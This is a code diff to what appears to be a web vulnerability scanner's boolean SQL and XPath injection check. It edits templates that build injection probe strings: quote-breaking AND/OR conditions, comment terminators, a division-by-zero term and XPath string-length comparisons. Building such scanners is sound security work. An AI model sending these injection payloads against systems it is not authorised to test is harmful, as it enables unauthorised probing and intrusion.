@@ -38,24 +38,25 @@ export const sqlBoolean: PointCheck = {
   },
 }
 
-/** Conditions joined by OR reach other rows: only where the operation reads. */
+/** Conditions joined by OR reach other rows: only where the operation reads. XPath knows its words in small letters alone. */
 function pairsFor(point: Point, operation: Operation): Pair[] {
   const text = textValue(point)
   const isNumber = /^-?\d{1,15}$/.test(text)
   const pairs: Pair[] = [
     ...(isNumber ? [{ name: 'number', of: (l: number, r: number) => `${text} AND ${l}=${r}` }] : []),
-    { name: "'", of: (l, r) => `${text}' AND '${l}'='${r}` },
-    { name: '"', of: (l, r) => `${text}" AND "${l}"="${r}` },
+    { name: "'", of: (l, r) => `${text}' and '${l}'='${r}` },
+    { name: '"', of: (l, r) => `${text}" and "${l}"="${r}` },
     { name: "%'", of: (l, r) => `${text}%' AND '${l}%'='${r}` },
     { name: "')", of: (l, r) => `${text}') AND ('${l}'='${r}` },
     ...(isNumber ? [{ name: 'number)', of: (l: number, r: number) => `${text}) AND (${l}=${r}` }] : []),
     { name: "'--", of: (l, r) => `${text}' AND ${l}=${r}-- -` },
     { name: "'))--", of: (l, r) => `${text}')) AND ${l}=${r}-- -` },
   ]
-  if (operation.kind !== 'read') return pairs
+  // what is inserted has no condition, but a term that fails on a division by nothing; where || joins conditions, nought widens none
+  if (operation.kind !== 'read') return [...pairs, { name: "'||", of: (l, r) => `${text}${l}'||0/(${l}-${r})||'` }]
   return [
     ...pairs,
-    { name: "' or", of: (l, r) => `zq' OR '${l}'='${r}` },
+    { name: "' or", of: (l, r) => `zq' or '${l}'='${r}` },
     { name: "' or--", of: (l, r) => `zq' OR ${l}=${r}-- -` },
     { name: '" or--', of: (l, r) => `zq" OR ${l}=${r}-- -` },
     { name: "')) or--", of: (l, r) => `zq')) OR ${l}=${r}-- -` },
@@ -64,11 +65,11 @@ function pairsFor(point: Point, operation: Operation): Pair[] {
   ]
 }
 
-/** string-length is a function of XPath, and of no SQL. */
+/** string-length is a function of XPath, and of no SQL. The two numbers are never nine apart, so that lengths differ where they do. */
 const xpathPair = (text: string, name: string): Pair => ({
   name: 'xpath',
   of: (l, r) =>
     name.includes('or')
-      ? `zq' or string-length('${'a'.repeat((l % 7) + 1)}')=${(r % 7) + 1} or 'a'='b`
-      : `${text}' and string-length('${'a'.repeat((l % 7) + 1)}')=${(r % 7) + 1} and '1'='1`,
+      ? `zq' or string-length('${'a'.repeat((l % 9) + 1)}')=${(r % 9) + 1} or 'a'='b`
+      : `${text}' and string-length('${'a'.repeat((l % 9) + 1)}')=${(r % 9) + 1} and '1'='1`,
 })
